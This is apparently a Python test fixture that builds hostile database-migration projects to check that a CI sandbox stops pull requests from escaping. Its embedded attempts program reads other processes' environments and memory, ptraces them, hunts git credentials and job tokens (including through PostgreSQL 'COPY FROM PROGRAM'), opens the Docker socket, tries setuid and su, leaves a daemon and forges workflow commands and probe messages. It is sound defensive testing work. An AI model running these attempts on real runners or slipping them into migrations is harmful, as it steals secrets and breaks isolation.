"""A project that tries what a pull request must not be able to do, and prints what it managed.

``ATTEMPTS`` is a program too: run as root with our environment it manages everything, which proves that each attempt is one.
"""

from __future__ import annotations

import json
from dataclasses import asdict, dataclass

from tests.projects.builder import CREATE_BOOK, Revision, EnvPy, tree

MARKER = "hush-this-is-the-token-of-the-job"
"""What the token holds: found anywhere, it has leaked."""
SAID = "MANAGED "


@dataclass(frozen=True, slots=True, kw_only=True)
class Targets:
    """What is there to be attacked; the defaults are the runner's."""

    command_files: str = "/github/file_commands"
    socket: str = "/var/run/docker.sock"
    repository: str = "/github/workspace"
    temporary: str = "/github/runner_temp"
    victims: tuple[int, ...] = ()
    """The processes to be attacked; none stands for all, which is for a container alone."""


ATTEMPTS = '''
import ctypes, glob, json, os, socket, subprocess, sys, time

MARKER, TARGETS = %(marker)r, json.loads(%(targets)r)


def others():
    """Every process that is not ours: the program that started us among them."""
    for name in [str(pid) for pid in TARGETS["victims"]] or os.listdir("/proc"):
        if name.isdigit() and int(name) != os.getpid():
            try:
                if open("/proc/%%s/cmdline" %% name, "rb").read().find(b"attempts") < 0 and not is_ours(name):
                    yield name
            except OSError:
                pass


def is_ours(pid):
    if os.getuid() == 0:
        return False
    return os.stat("/proc/" + pid).st_uid == os.getuid()


def each(paths, use):
    managed = []
    for path in paths:
        try:
            if use(path):
                managed.append(path)
        except OSError:
            pass
    return managed


def holds_marker(path):
    with open(path, "rb") as file:
        return MARKER.encode() in file.read(1 << 20)


def can_open(mode):
    def use(path):
        open(path, mode).close()
        return True
    return use


def append(path):
    with open(path, "a") as file:
        file.write("STOLEN=1\\n")
    return True


def the_token_in_the_environment():
    return [name for name, value in os.environ.items() if MARKER in value]


def the_runners_variables():
    return [name for name in os.environ if name.startswith(("INPUT_", "ACTIONS_", "RUNNER_")) or name == "GITHUB_ENV"]


def the_environment_of_other_processes():
    return each(["/proc/%%s/environ" %% pid for pid in others()], holds_marker)


def the_memory_of_other_processes():
    return each(["/proc/%%s/mem" %% pid for pid in others()], can_open("rb"))


def the_files_that_others_have_open():
    return each(["/proc/%%s/fd" %% pid for pid in others()], os.listdir)


def the_output_of_others():
    return each(["/proc/%%s/fd/%%d" %% (pid, fd) for pid in others() for fd in (1, 2)], can_open("ab"))


def a_debugger_on_another_process():
    libc = ctypes.CDLL(None, use_errno=True)
    return [pid for pid in others() if libc.ptrace(0x4206, int(pid), None, None) == 0]  # PTRACE_SEIZE: does not stop it


def a_signal_to_another_process():
    return each([pid for pid in others()], lambda pid: os.kill(int(pid), 0) is None)


def the_command_files():
    return each(glob.glob(TARGETS["command_files"] + "/*"), append)


def the_socket_of_docker():
    def connect(path):
        with socket.socket(socket.AF_UNIX) as client:
            client.connect(path)
        return True
    return each([TARGETS["socket"]], connect)


def a_file_in_the_checkout():
    return each([TARGETS["repository"] + "/planted"], append)


def the_token_of_the_checkout():
    files = glob.glob(TARGETS["temporary"] + "/git-credentials-*")
    return each([TARGETS["repository"] + "/.git/config"] + files, holds_marker)


def the_servers_own_programs(connection):
    """What PostgreSQL's user can read, where a migration is a superuser of the scratch server."""
    search = "grep -asl %%s /proc/[0-9]*/environ %%s/.git/config %%s/git-credentials-*; true" %% (
        MARKER, TARGETS["repository"], TARGETS["temporary"])
    try:
        with connection.begin_nested():
            connection.exec_driver_sql("CREATE TABLE stolen (line text)")
            connection.exec_driver_sql("COPY stolen FROM PROGRAM '%%s'" %% search)
    except Exception:
        return []
    found = [line for (line,) in connection.exec_driver_sql("SELECT line FROM stolen")]
    connection.exec_driver_sql("DROP TABLE stolen")
    return found


def another_user():
    return each(["setuid", "setgid"], lambda name: getattr(os, name)(os.getuid() and 0) is None and os.getuid() == 0)


def su():
    done = subprocess.run(["su", "-c", "true"], stdin=subprocess.DEVNULL, capture_output=True)
    return [] if done.returncode else ["su"]


def rights_by_a_setuid_program():
    status = open("/proc/self/status").read()
    return [] if "NoNewPrivs:\\t1" in status else ["NoNewPrivs"]


def all_attempts():
    found = [the_token_in_the_environment, the_runners_variables, the_environment_of_other_processes,
             the_memory_of_other_processes, the_files_that_others_have_open, the_output_of_others,
             a_debugger_on_another_process, a_signal_to_another_process, the_command_files, the_socket_of_docker,
             a_file_in_the_checkout, the_token_of_the_checkout, another_user, su, rights_by_a_setuid_program]
    return {attempt.__name__: attempt() for attempt in found}


def leave_a_daemon():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for fd in range(256):
                try:
                    os.close(fd)
                except OSError:
                    pass
            while True:
                time.sleep(60)
        os._exit(0)


def tell(connection=None):
    found = all_attempts()
    if connection is not None:
        found["the_servers_own_programs"] = the_servers_own_programs(connection)
    print(%(said)r + json.dumps(found), flush=True)


if __name__ == "__main__":
    tell()
'''
COMMANDS = ("::error::planted", "::add-mask::e", "##[add-path]/planted", "::stop-commands::planted")
"""Workflow commands, in both syntaxes of the runner."""
_SAYS = f"""import sys
for stream in (sys.stdout, sys.stderr):
    for command in {COMMANDS!r}:
        print(command, file=stream, flush=True)"""


def attempts(targets: Targets) -> str:
    """Return the program that tries everything."""
    return ATTEMPTS % {"marker": MARKER, "targets": json.dumps(asdict(targets)), "said": SAID}


def managed(output: str) -> dict[str, list[str]]:
    """Return what each attempt managed, as the program printed it the last time."""
    lines = [line.partition(SAID)[2] for line in output.splitlines() if SAID in line]
    found: dict[str, list[str]] = json.loads(lines[-1])
    return found


def project(targets: Targets) -> dict[str, str]:
    """Return a project whose migration tries everything, talks to the runner and leaves a daemon, then does its work.

    Never to be run as root outside of a container, where it would succeed.
    """
    upgrade = (
        f"import attempts\nattempts.tell(op.get_bind())\nattempts.leave_a_daemon()\n{_SAYS}\n{CREATE_BOOK.strip()}"
    )
    return {**tree(Revision(id="a1", upgrade=upgrade)), "attempts.py": attempts(targets)}


def talking() -> dict[str, str]:
    """Return a project whose migration only talks to the runner."""
    return tree(Revision(id="a1", upgrade=f"{_SAYS}\n{CREATE_BOOK.strip()}"))


def forging(line: str) -> dict[str, str]:
    """Return a project whose env.py writes a line of its own on every pipe that it finds open."""
    top = f"""
import stat
for fd in map(int, os.listdir("/proc/self/fd")):
    try:
        if stat.S_ISFIFO(os.fstat(fd).st_mode):
            os.write(fd, {line!r}.encode() + b"\\n")
    except OSError:
        pass
"""
    return tree(Revision(id="a1", upgrade=CREATE_BOOK), env=EnvPy(top=top).text)


_NOTHING_LEFT = """
from alembic.script import ScriptDirectory

imported, steps = os.environ.setdefault("IMPORTED", str(os.getpid())), ScriptDirectory._upgrade_revs
ScriptDirectory._upgrade_revs = lambda self, to, rows: [step for step in steps(self, to, rows) if {condition}]
"""


def withholding(condition: str) -> str:
    """Return an env.py that has Alembic leave out the steps which do not meet a condition."""
    return EnvPy(top=_NOTHING_LEFT.format(condition=condition)).text


_SAYS_DONE = """
import os, stat
for fd in map(int, os.listdir("/proc/self/fd")):
    try:
        if stat.S_ISFIFO(os.fstat(fd).st_mode):
            os.write(fd, b'{"event": "step-done", "seconds": 0.1}\\n{"event": "done"}\\n')
    except OSError:
        pass
os._exit(0)
"""
ADD_PAGES = 'op.execute("ALTER TABLE book ADD COLUMN pages integer")'
NEVER_ARRIVED = {
    "nothing is left to apply": (
        Revision(id="b2", down="a1", upgrade=ADD_PAGES),
        withholding("step.revision.revision != 'b2'"),
    ),
    "what breaks off is done": (
        Revision(id="b2", down="a1", upgrade=f"{ADD_PAGES}\n{_SAYS_DONE}"),
        withholding("imported != str(os.getpid())"),
    ),
    "a failure is none": (
        Revision(id="b2", down="a1", upgrade='raise ValueError("no shelf")'),
        EnvPy(
            top="""
for name, module in list(sys.modules.items()):
    if name.endswith("protocol.wire"):
        module.Wire.failed = lambda self, *args, **kwargs: self.done()
"""
        ).text,
    ),
}
"""A revision that is not applied, and an env.py that has Alembic, or the probe, say that it was."""


FORGED = {
    "no JSON": "nonsense",
    "no object": "[1, 2]",
    "not an event": '{"event": "applause"}',
    "deep": "[" * 100_000,
    "not a number": '{"event": "statement-done", "seconds": NaN}',
    "a huge number": '{"event": "started", "pid": 1' + "0" * 5000 + "}",
    "a missing key": '{"event": "step"}',
    "a wrong type": '{"event": "environment", "heads": 1}',
    "out of order": '{"event": "statement-done", "seconds": 1}',
    "the end, too early": '{"event": "loaded", "threads": 0}',
}
"""What is written in place of the probe's own messages."""
